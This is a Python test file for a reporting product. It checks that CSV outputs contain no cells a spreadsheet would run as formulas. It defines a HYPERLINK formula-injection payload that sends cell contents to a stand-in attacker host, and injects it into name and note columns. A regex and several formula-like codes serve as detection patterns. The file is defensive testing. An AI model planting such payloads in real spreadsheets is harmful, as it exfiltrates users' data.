"""No cell of a table that the product writes is taken by a spreadsheet program for a formula.

Word, PDF and HTML hold no formulas; the product writes no Excel files. Its tables hold numbers and codes, and a code
begins with a letter or a figure: names, notes and reasons, in which people may write anything, stand in none of them.
"""

from __future__ import annotations

import ast
import csv
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest

from risk_models.errors import BadInputError
from tests.replays import ROOT, StormRun
from wuyu.cli import main
from wuyu.desk import begin_desk
from wuyu.products import write_rehearsal

pytestmark = pytest.mark.xdist_group("storm")

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)'
_FORMULA = re.compile(r"\s*[=+\-@\t\r＝＋－＠]")
_NUMBER = re.compile(r"-?\d+(\.\d+)?(e[+-]?\d+)?")


def formulas(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert len(cells) > 10, path.name
    return [cell for cell in cells if _FORMULA.match(cell) and not _NUMBER.fullmatch(cell)]


def _writers() -> Iterator[str]:
    """Yield file and name of every call that writes a table for a spreadsheet."""
    for wing in ("wuyu", "reports", "risk_models", "dags"):
        for path in (ROOT / wing).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Call):
                    name = getattr(node.func, "attr", getattr(node.func, "id", ""))
                    if name in ("to_csv", "to_excel", "ExcelWriter", "DictWriter", "writer", "Workbook"):
                        yield f"{path.relative_to(ROOT).as_posix()}: {name}"


def test_every_table_that_is_written_is_known() -> None:
    """A new one fails here until it is tested below."""
    assert sorted(_writers()) == [
        "wuyu/drill/storm.py: writer",  # a feed's own table laid down as the feed would; no product
        "wuyu/drill/table.py: writer",  # tests/wuyu/drill
        "wuyu/feeds/sql.py: writer",  # what a database answered, kept as received and read back; no product
        "wuyu/learning.py: to_csv",  # numbers and their names, tests/wuyu/test_learning.py
        "wuyu/learning.py: to_csv",
        "wuyu/learning.py: to_csv",
        "wuyu/products.py: to_csv",
        "wuyu/products.py: to_csv",
        "wuyu/reporting/gather.py: to_csv",  # never written: its digest says whether inputs changed
        "wuyu/reporting/gather.py: to_csv",
        "wuyu/verification/tables.py: to_csv",
    ]


def test_hostile_names_reach_no_table(storm_district: Path, storm_run: StormRun, tmp_path: Path) -> None:
    folder = tmp_path / "mini"
    shutil.copytree(storm_district, folder)
    for path in folder.glob("*.csv"):
        table = pd.read_csv(path, dtype=str, keep_default_na=False)
        for column in [name for name in table.columns if name.endswith(("_name", "_name_en", "note", "address"))]:
            table[column] = [f"{HOSTILE}{number}" for number in range(len(table))]
        table.to_csv(path, index=False)
    desk = begin_desk(folder, tmp_path / "out")
    assert HOSTILE in "".join(desk.district.hotspots["hotspot_name"])
    paths = write_rehearsal(desk)
    desk.ledger.close()
    for kind in ("csv", "summary"):
        assert formulas(paths[kind]) == []
        assert HOSTILE not in paths[kind].read_text(encoding="utf-8")
    place = ["--district", str(folder), "--out", str(tmp_path / "budget")]
    shutil.copytree(storm_run.desk.out, tmp_path / "budget")
    main(["verify", "scores", *place])
    for path in sorted((tmp_path / "budget" / "verification").glob("*.csv")):
        assert formulas(path) == [], path.name


@pytest.mark.parametrize("code", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", " =1", "＝1"])
def test_no_code_begins_like_a_formula(storm_district: Path, tmp_path: Path, code: str) -> None:
    """Codes are the only words that stand in the tables."""
    folder = tmp_path / "mini"
    shutil.copytree(storm_district, folder)
    path = folder / "hotspots.csv"
    table = pd.read_csv(path, dtype=str, keep_default_na=False)
    table.loc[0, "hotspot_id"] = code
    table.to_csv(path, index=False)
    with pytest.raises(BadInputError, match="hotspot_id"):
        begin_desk(folder, tmp_path / "out")
